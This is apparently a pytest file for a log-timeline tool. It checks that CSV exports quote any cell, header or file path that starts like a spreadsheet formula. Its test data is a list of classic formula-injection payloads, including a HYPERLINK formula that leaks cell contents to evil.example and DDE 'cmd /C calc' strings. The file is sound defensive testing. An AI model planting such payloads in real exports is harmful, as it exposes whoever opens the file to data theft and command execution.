"""CSV formula injection: no cell of a CSV the project writes starts like a spreadsheet formula (issue 18, 7)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.archives import make_zip
from workbench.cli import main
from workbench.core.spreadsheet import FORMULA_STARTS, spreadsheet_cell, write_csv

#: Messages a hostile or unlucky log can carry, each a classic payload of its kind.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


def _setupact(messages: list[str]) -> bytes:
    lines = [f"2021-05-25 09:15:{30 + i:02d}, Error                 SP     {m}" for i, m in enumerate(messages)]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def test_cells_that_start_like_formulas_get_a_quote() -> None:
    for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＠x"):
        assert spreadsheet_cell(value) == "'" + value
    for value in ("0xC1900101", "Setup", "", " =1 (a space first is text)", "a=b", "'quoted"):
        assert spreadsheet_cell(value) == value
    # numbers stay numbers: a negative number is not text a spreadsheet could run
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None


def test_write_csv_escapes_header_and_every_cell() -> None:
    out = io.StringIO()
    n = write_csv(out, ["=field", "b"], [{"=field": "=x", "b": "-y"}, {"=field": "ok", "b": 3}])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert n == 2
    assert rows == [["'=field", "b"], ["'=x", "'-y"], ["ok", "3"]]


def test_timeline_csv_escapes_messages_components_and_paths(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    # a folder named like a formula, so the path column starts with one too
    src = make_zip(tmp_path / "c.zip", {"=cmd/Panther/setupact.log": _setupact(PAYLOADS)})
    code = main(["timeline", str(src), "--format", "csv", "--quiet"])
    out, _ = capsys.readouterr()
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(PAYLOADS)
    cells = [c for r in rows for c in r.values() if c]
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]
    # nothing is lost: the quote is the only change
    assert [r["message"] for r in rows] == ["'" + m for m in PAYLOADS]
    assert {r["file"] for r in rows} == {"'=cmd/Panther/setupact.log"}
    # the JSON lines output is data, not a spreadsheet: it carries the messages unchanged
    main(["timeline", str(src), "--quiet"])
    out, _ = capsys.readouterr()
    assert all(m in out.replace('\\"', '"') for m in PAYLOADS)
